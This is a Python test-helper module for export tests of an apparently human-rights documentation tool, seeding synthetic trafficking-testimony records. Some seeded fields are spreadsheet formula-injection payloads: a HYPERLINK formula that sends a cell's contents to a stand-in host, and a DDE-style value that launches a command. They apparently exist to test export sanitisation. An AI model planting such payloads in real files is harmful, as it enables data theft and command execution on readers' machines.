"""Helpers for the exchange tests: a second workspace, emptying one between hypothesis examples,
counting every row, reading an export's bytes (unpacked when zipped), and synthetic records."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa

from support import discard, make_workspace
from redzone.records.entry import (ActDetails, AttestationSpec, Context, PerpetratorSpec, add_act, add_event,
                                   add_group, add_organisation, add_person, add_source)
from redzone.records.identity import Identity
from redzone.records.models import Base
from redzone.records.users import SYSTEM, actor_for, create_user
from redzone.workspace import Workspace

ACCOUNTS = (("interviewer", "interviewer"), ("officer", "documentation_officer"), ("legal", "legal_analyst"),
            ("analyst", "data_analyst"), ("admin", "administrator"), ("public", "public"))
KEEP = {"user_account", "alembic_version"}


@pytest.fixture
def second_workspace(tmp_path: Path, backend: str) -> Iterator[Workspace]:
    """An empty workspace on the same backend as `workspace`, with the same test accounts."""
    ws = make_workspace(tmp_path / "second", backend)
    with ws.store.session() as session:
        for username, role in ACCOUNTS:
            create_user(session, ws.keys, SYSTEM, username, role)
    try:
        yield ws
    finally:
        discard(ws)


def wipe(ws: Workspace) -> None:
    """Empty every table but the accounts: a fresh workspace for the next hypothesis example."""
    with ws.store.session() as session:
        for table in reversed(Base.metadata.sorted_tables):
            if table.name not in KEEP:
                session.execute(table.delete())
        session.execute(sa.update(Base.metadata.tables["user_account"]).values(organisation_id=None))


def row_counts(ws: Workspace) -> dict[str, int]:
    with ws.store.session() as session:
        return {table.name: session.scalar(sa.select(sa.func.count()).select_from(table))
                for table in Base.metadata.sorted_tables}


def actor(ws: Workspace, username: str):  # noqa: ANN201
    with ws.store.session() as session:
        return actor_for(session, username)


def unpacked(data: bytes) -> bytes:
    """The bytes of a file, with every member of a ZIP (or XLSX) decompressed and appended."""
    if not data.startswith(b"PK"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return data + b"".join(archive.read(name) for name in archive.namelist())


def seed_small(ws: Workspace, marker: str = "MARKER") -> dict[str, str]:
    """A handful of synthetic records whose sealed values all contain `marker`; returns their codes."""
    with ws.store.session() as session:
        ctx = Context(session, ws.keys, actor_for(session, "interviewer"))
        add_organisation(ctx, "demo-tumen", "Tumen Testimony Project (fictional)")
        victim = add_person(ctx, sex="female", birth_year_min=2001, origin_place_id="kp.north_hamgyong.hoeryong",
                            organisation_id="demo-tumen",
                            identity=Identity(legal_name=f"Kim {marker}-legal", hangul_name=f"김{marker}",
                                              aliases=(f"{marker}-alias",), contact=f"{marker}-contact",
                                              whereabouts=f"{marker}-whereabouts"))
        text = f"Synthetic testimony {marker}-text: a broker sold me in Yanji."
        source = add_source(ctx, kind="interview", language="en", date=dt.date(2023, 5, 1), reliability="B",
                            credibility=2, text=text, interviewee=victim, consent_scopes=["internal_analysis"],
                            organisation_id="demo-tumen")
        group = add_group(ctx, name="=HYPERLINK(\"http://x.invalid/?\"&A1)", kind="broker_network",
                          place_id="cn.jilin.yanbian.yanji")
        event = add_event(ctx, kind="sale", place_id="cn.jilin.yanbian.yanji", date_start=dt.date(2019, 3, 1),
                          date_precision="month", description="@SUM(1+1)*cmd|' /C calc'!A0")
        act = add_act(ctx, victim=victim, violation="trafficking.sale", event=event,
                      details=ActDetails(price_amount=30000, price_currency="CNY", notes="-2+3",
                                         perpetrators=[PerpetratorSpec("broker", group=group),
                                                       PerpetratorSpec("buyer")],
                                         attestations=[AttestationSpec(source, 22, 40)]))
        return {"person": victim.code, "source": source.code, "act": act.code, "event": event.code}
